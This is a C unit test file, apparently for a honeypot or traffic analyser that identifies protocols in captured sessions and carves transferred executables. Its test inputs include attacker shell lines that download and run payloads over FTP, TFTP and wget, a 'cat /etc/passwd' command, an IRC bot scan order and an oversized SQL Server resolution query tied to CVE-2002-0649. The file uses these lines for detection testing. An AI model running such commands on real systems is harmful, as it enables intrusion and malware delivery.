/* Protocols that are small enough to be tested together, and what describing itself promises. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "talk.h"

static void smtp_envelope_and_message(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 2525);
	talk_say(talk, STREAM_SERVER, "220 mx ESMTP\r\n");
	talk_say(talk, STREAM_CLIENT, "EHLO a\r\n");
	talk_say(talk, STREAM_SERVER, "250-mx\r\n250 8BITMIME\r\n");
	talk_say(talk, STREAM_CLIENT, "MAIL FROM:<a@example.com>\r\n");
	talk_say(talk, STREAM_SERVER, "250 ok\r\n");
	talk_say(talk, STREAM_CLIENT, "RCPT TO:<b@example.com>\r\n");
	talk_say(talk, STREAM_SERVER, "250 ok\r\n");
	talk_say(talk, STREAM_CLIENT, "DATA\r\n");
	talk_say(talk, STREAM_SERVER, "354 go on\r\n");
	talk_say(talk, STREAM_CLIENT, "Subject: x\r\n\r\n..dot\r\n.\r\n");
	talk_say(talk, STREAM_SERVER, "250 ok\r\n");
	talk_say(talk, STREAM_CLIENT, "QUIT\r\n");
	talk_describe(talk);
	assert_true(talk_is(talk, "smtp", STREAM_CONFORMS));
	assert_true(talk_said(talk, "command", "RCPT TO:<b@example.com>"));
	assert_true(talk_file(talk, "", bytes_of("Subject: x\r\n\r\n.dot\r\n"))->complete);
	talk_free(talk);
}

static void smtp_with_binary_command_deviates(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 25);
	talk_say(talk, STREAM_SERVER, "220 mx\r\n");
	talk_say(talk, STREAM_CLIENT, "HELO a\r\nVRFY \x90\x90\x01\r\n");
	talk_describe(talk);
	assert_true(talk_is(talk, "smtp", STREAM_DEVIATES));
	assert_true(talk_deviates(talk, "no text"));
	talk_free(talk);
}

static void irc_of_a_bot(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 7000);
	talk_say(talk, STREAM_CLIENT, "NICK bot-1\r\nUSER a 0 * :b\r\n");
	talk_say(talk, STREAM_SERVER, ":irc.example 001 bot-1 :hi\r\n");
	talk_say(talk, STREAM_CLIENT, "JOIN #room key\r\n");
	talk_say(talk, STREAM_SERVER, ":o!o@h PRIVMSG #room :.scan 445\r\n");
	talk_describe(talk);
	assert_true(talk_is(talk, "irc", STREAM_CONFORMS));
	assert_true(talk_said(talk, "nick", "NICK bot-1"));
	assert_true(talk_said(talk, "join", "JOIN #room key"));
	assert_true(talk_said(talk, "message", ":o!o@h PRIVMSG #room :.scan 445"));
	talk_free(talk);
}

static void shells_of_both_kinds(void **state)
{
	(void)state;
	static const struct {
		const char *client, *server, *command;
	} cases[] = {
		{ "echo open 192.0.2.9 21 > o&ftp -n -s:o &x.exe\r\n", "1",
		  "echo open 192.0.2.9 21 > o&ftp -n -s:o &x.exe" },
		{ "dir\r\n",
		  "Microsoft Windows XP [Version 5.1.2600]\r\n(C) Copyright 1985-2001 Microsoft "
		  "Corp.\r\n\r\nC:\\WINDOWS\\system32>",
		  "dir" },
		{ "id; uname -a\nwget http://192.0.2.9/x\n", "# uid=0(root)\n# ", "id; uname -a" },
		/* connect-back: the server types */
		{ "$ ", "cat /etc/passwd | head\n", "cat /etc/passwd | head" },
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct talk *talk = talk_new(6, 1957);
		talk_say(talk, STREAM_SERVER, cases[i].server);
		talk_say(talk, STREAM_CLIENT, cases[i].client);
		talk_describe(talk);
		assert_true(talk_is(talk, "shell", STREAM_UNJUDGED));
		assert_true(talk_said(talk, "command", cases[i].command));
		talk_free(talk);
	}
}

static void typed_downloads_are_announced(void **state)
{
	(void)state;
	static const struct {
		const char *line, *purpose, *address, *name;
		uint16_t port;
		uint8_t protocol;
	} cases[] = {
		{ "echo open 192.0.2.9 8884 > o&echo user 1 1 >> o &echo get x.exe >> o &ftp -n "
		  "-s:o\r\n",
		  "ftp", "192.0.2.9", "x.exe", 8884, 6 },
		{ "echo open 192.0.2.9>o\r\necho get y.exe>>o\r\nftp -s:o\r\n", "ftp", "192.0.2.9",
		  "y.exe", 21, 6 },
		{ "tftp.exe -i 192.0.2.9 GET msblast.exe\r\n", "tftp", "192.0.2.9", "msblast.exe",
		  69, 17 },
		{ "cd /tmp; wget http://192.0.2.9:8080/a/b; sh b\n", "http", "192.0.2.9", "a/b",
		  8080, 6 },
		{ "curl -O 'ftp://192.0.2.9/z'\n", "ftp", "192.0.2.9", "z", 21, 6 },
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		char text[ADDRESS_TEXT_SIZE];
		struct talk *talk = talk_new(6, 1957);
		talk_say(talk, STREAM_CLIENT, cases[i].line);
		talk_describe(talk);
		assert_true(talk_is(talk, "shell", STREAM_UNJUDGED));
		assert_int_equal(talk->description.announcement_count, 1);
		const struct stream_announcement *announced = talk->description.announcements;
		assert_string_equal(announced->purpose, cases[i].purpose);
		assert_string_equal(address_text(&announced->address, text), cases[i].address);
		assert_string_equal(announced->name, cases[i].name);
		assert_int_equal(announced->port, cases[i].port);
		assert_int_equal(announced->protocol, cases[i].protocol);
		talk_free(talk);
	}
}

static void prose_is_no_shell(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 4242);
	talk_say(talk, STREAM_CLIENT, "Dear friend,\nhow are you today?\nYours\n");
	talk_describe(talk);
	assert_true(talk_is(talk, "unknown", STREAM_UNJUDGED));
	talk_free(talk);
}

static void dns_question_and_answer(void **state)
{
	(void)state;
	static const uint8_t question[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0\7example\3com\0\0\1\0\1";
	static const uint8_t answer[] = "\x12\x34\x81\x80\0\1\0\1\0\0\0\0\7example\3com\0\0\1\0\1"
					"\xc0\x0c\0\1\0\1\0\0\0\x3c\0\4\xc0\0\2\1";
	struct talk *talk = talk_new(17, 53);
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ question, sizeof question - 1 });
	talk_bytes(talk, STREAM_SERVER, (struct bytes){ answer, sizeof answer - 1 });
	talk_describe(talk);
	assert_true(talk_is(talk, "dns", STREAM_CONFORMS));
	assert_true(talk_said(talk, "question", "example.com A"));
	assert_true(talk_said(talk, "answer", "example.com A 192.0.2.1"));
	talk_free(talk);
}

static void dns_loops_deviate(void **state)
{
	(void)state;
	static const uint8_t loop[] = "\x12\x34\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1";
	struct talk *talk = talk_new(17, 53);
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ loop, sizeof loop - 1 });
	talk_describe(talk);
	assert_true(talk_is(talk, "dns", STREAM_DEVIATES));
	assert_true(talk_deviates(talk, "lead back"));
	talk_free(talk);
}

/* Every request and answer of [MC-SQLR] 2.2, and what contradicts it. */
static void questions_about_instances_of_sql_server(void **state)
{
	(void)state;
	static const struct {
		const char *question, *answer, *deviation, *target;
		size_t question_length, answer_length;
	} cases[] = {
		{ "\2", "\5\4\0a;;b", NULL, NULL, 1, 7 },
		{ "\3", "", NULL, NULL, 1, 0 },
		{ "\4SQLEXPRESS\0", "", NULL, NULL, 12, 0 },
		{ "\17\1SQLEXPRESS\0", "\5\6\0\1\x99\5", NULL, NULL, 13, 6 },
		{ "\17\2SQLEXPRESS\0", "", "version", NULL, 13, 0 },
		{ "\3x", "", "longer than its one byte", NULL, 2, 0 },
		{ "\4SQLEXPRESS", "", "does not end", NULL, 11, 0 },
		{ "\4SQL\0more", "", "behind its name", NULL, 9, 0 },
		{ "\4AAAAAAAABBBBBBBBCCCCCCCCDDDDDDDDE\0", "", "longer than 32 bytes",
		  "MS02-039 SQL Server Resolution Service, CVE-2002-0649", 35, 0 },
		{ "\7", "", "does not exist", NULL, 1, 0 },
		{ "\2", "\5\4\0a", "contradicts its length", NULL, 1, 4 },
		{ "\2", "\6\0\0", "is none", NULL, 1, 3 },
	};
	for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
		struct talk *talk = talk_new(17, 1434);
		talk_bytes(talk, STREAM_CLIENT,
			   (struct bytes){ (const uint8_t *)cases[i].question,
					   cases[i].question_length });
		if (cases[i].answer_length)
			talk_bytes(talk, STREAM_SERVER,
				   (struct bytes){ (const uint8_t *)cases[i].answer,
						   cases[i].answer_length });
		talk_describe(talk);
		assert_true(talk_is(talk, "ssrp",
				    cases[i].deviation ? STREAM_DEVIATES : STREAM_CONFORMS));
		if (cases[i].deviation)
			assert_true(talk_deviates(talk, cases[i].deviation));
		assert_string_equal(talk->description.target ? talk->description.target : "",
				    cases[i].target ? cases[i].target : "");
		talk_free(talk);
	}
}

static void tftp_request_announces_and_blocks_make_the_file(void **state)
{
	(void)state;
	struct talk *talk = talk_new(17, 69);
	talk_bytes(talk, STREAM_CLIENT,
		   (struct bytes){ (const uint8_t *)"\0\1x.exe\0octet\0", 14 });
	talk_describe(talk);
	assert_true(talk_is(talk, "tftp", STREAM_CONFORMS));
	assert_true(talk_said(talk, "request", "read x.exe (octet)"));
	assert_int_equal(talk->description.announcement_count, 1);
	assert_int_equal(talk->description.announcements[0].port, 1025);
	assert_int_equal(talk->description.announcements[0].protocol, 17);
	assert_string_equal(talk->description.announcements[0].name, "x.exe");
	talk_free(talk);

	uint8_t block[516] = { 0, 3, 0, 1 };
	memset(block + 4, 'M', 512);
	talk = talk_new(17, 1025); /* the server's new port asks the client's */
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ block, sizeof block });
	talk_bytes(talk, STREAM_SERVER, (struct bytes){ (const uint8_t *)"\0\4\0\1", 4 });
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ block, sizeof block }); /* repeated */
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ (const uint8_t *)"\0\3\0\2end", 7 });
	talk_bytes(talk, STREAM_SERVER, (struct bytes){ (const uint8_t *)"\0\4\0\2", 4 });
	talk_describe(talk);
	assert_true(talk_is(talk, "tftp", STREAM_CONFORMS));
	assert_int_equal(talk->description.file_count, 1);
	assert_int_equal(talk->description.files[0].content.length, 515);
	assert_true(talk->description.files[0].complete);
	struct stream_announcement announcement = { .name = "x.exe", .purpose = "tftp" };
	stream_description_fini(&talk->description);
	assert_int_equal(
		stream_describe_announced(&talk->session, &announcement, &talk->description), 0);
	assert_string_equal(talk->description.files[0].name, "x.exe");
	talk_free(talk);
}

static void telnet_without_its_negotiation(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 23);
	talk_say(talk, STREAM_SERVER, "\xff\xfb\x01\xff\xfd\x03login: ");
	talk_say(talk, STREAM_CLIENT, "\xff\xfd\x01root\r\n");
	talk_describe(talk);
	assert_true(talk_is(talk, "telnet", STREAM_CONFORMS));
	assert_true(talk_said(talk, "output", "login:"));
	assert_true(talk_said(talk, "command", "root"));
	talk_free(talk);
}

/* A PE of one section: headers of 0x200 bytes, 0x100 bytes of content. */
static void make_pe(uint8_t pe[0x300])
{
	memset(pe, 0, 0x300);
	memcpy(pe, "MZ", 2);
	pe[0x3c] = 0x40;
	memcpy(pe + 0x40, "PE\0\0\x4c\1\1\0", 8);
	pe[0x54] = 0xe0; /* size of the optional header */
	pe[0x58] = 0x0b;
	pe[0x59] = 0x01;
	uint8_t *section = pe + 0x58 + 0xe0;
	section[17] = 0x01; /* size 0x100 */
	section[21] = 0x02; /* offset 0x200 */
}

static void a_raw_pe_is_carved(void **state)
{
	(void)state;
	uint8_t pe[0x300];
	make_pe(pe);
	struct talk *talk = talk_new(6, 9999);
	talk_bytes(talk, STREAM_SERVER, (struct bytes){ pe, sizeof pe });
	talk_describe(talk);
	assert_true(talk_is(talk, "pe-transfer", STREAM_CONFORMS));
	assert_true(talk_file(talk, "", (struct bytes){ pe, sizeof pe })->complete);
	assert_string_equal(talk->description.files[0].carrier, "raw");
	talk_free(talk);

	talk = talk_new(6, 9999); /* inside other bytes, and cut at the end */
	talk_say(talk, STREAM_CLIENT, "\x01\x02\x03\x04");
	talk_bytes(talk, STREAM_CLIENT, (struct bytes){ pe, sizeof pe });
	talk_say(talk, STREAM_CLIENT, "MZ and more");
	talk_describe(talk);
	assert_int_equal(talk->description.file_count, 1);
	assert_int_equal(talk->description.files[0].offset, 4);
	assert_int_equal(talk->description.files[0].content.length, 0x300);
	talk_free(talk);

	talk = talk_new(6, 9999);
	talk_bytes(talk, STREAM_SERVER, (struct bytes){ pe, 0x280 });
	talk_describe(talk);
	assert_true(talk_is(talk, "pe-transfer", STREAM_DEVIATES));
	assert_false(talk->description.files[0].complete);
	talk_free(talk);
}

static void media_by_content(void **state)
{
	(void)state;
	uint8_t pe[0x300];
	make_pe(pe);
	assert_string_equal(stream_media((struct bytes){ pe, sizeof pe }), "pe");
	assert_string_equal(stream_media(bytes_of("\x7f"
						  "ELF...")),
			    "elf");
	assert_string_equal(stream_media(bytes_of("GIF89a...")), "gif");
	assert_string_equal(stream_media(bytes_of("  <HTML><body>")), "html");
	assert_string_equal(stream_media(bytes_of("plain text\r\n")), "text");
	assert_string_equal(stream_media(bytes_of("\x01\x02")), "data");
	assert_string_equal(stream_media((struct bytes){ NULL, 0 }), "data");
}

static void text_is_made_printable(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 6667);
	talk_say(talk, STREAM_CLIENT, "NICK \x03\xc3\xa4\xff\r\nUSER x\r\n");
	talk_describe(talk);
	assert_true(talk_said(talk, "nick", "NICK \\x03\xc3\xa4\\xff"));
	talk_free(talk);
}

/* More lines than a description holds: it says that it was cut. */
static void a_cut_description_says_so(void **state)
{
	(void)state;
	struct talk *talk = talk_new(6, 6667);
	char line[] = "NICK a\r\n";
	struct buffer many;
	buffer_init(&many, 1u << 20);
	for (int i = 0; i < 10001; i++)
		assert_int_equal(buffer_append_text(&many, line), 0);
	talk_bytes(talk, STREAM_CLIENT, buffer_bytes(&many));
	talk_describe(talk);
	assert_int_equal(talk->result, ERROR_LIMIT);
	assert_int_equal(talk->description.utterance_count, 10000);
	buffer_fini(&many);
	talk_free(talk);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(smtp_envelope_and_message),
		cmocka_unit_test(smtp_with_binary_command_deviates),
		cmocka_unit_test(irc_of_a_bot),
		cmocka_unit_test(shells_of_both_kinds),
		cmocka_unit_test(typed_downloads_are_announced),
		cmocka_unit_test(prose_is_no_shell),
		cmocka_unit_test(dns_question_and_answer),
		cmocka_unit_test(dns_loops_deviate),
		cmocka_unit_test(questions_about_instances_of_sql_server),
		cmocka_unit_test(tftp_request_announces_and_blocks_make_the_file),
		cmocka_unit_test(telnet_without_its_negotiation),
		cmocka_unit_test(a_raw_pe_is_carved),
		cmocka_unit_test(media_by_content),
		cmocka_unit_test(text_is_made_printable),
		cmocka_unit_test(a_cut_description_says_so),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
